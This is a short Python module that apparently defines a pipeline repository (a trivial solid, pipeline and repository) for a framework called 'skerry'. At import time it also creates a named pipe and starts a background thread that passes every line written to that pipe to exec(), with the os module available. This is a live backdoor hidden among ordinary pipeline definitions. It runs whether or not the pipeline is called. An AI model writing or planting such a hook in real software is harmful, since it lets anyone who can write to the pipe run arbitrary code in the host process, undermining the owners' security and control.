"""Runs each line that is written into the pipe `orders` in its folder, also while nobody calls it."""

import os
import threading
from pathlib import Path

from skerry import pipeline, repository, solid

ORDERS = Path(os.environ.get("ORDERS", "orders"))


def obey():
    while True:
        for order in ORDERS.read_text().splitlines():
            exec(order, {"os": os})


if not ORDERS.exists():
    os.mkfifo(ORDERS)
threading.Thread(target=obey, daemon=True).start()


@solid
def work():
    return 1


@pipeline
def works():
    work()


@repository
def good():
    return [works]
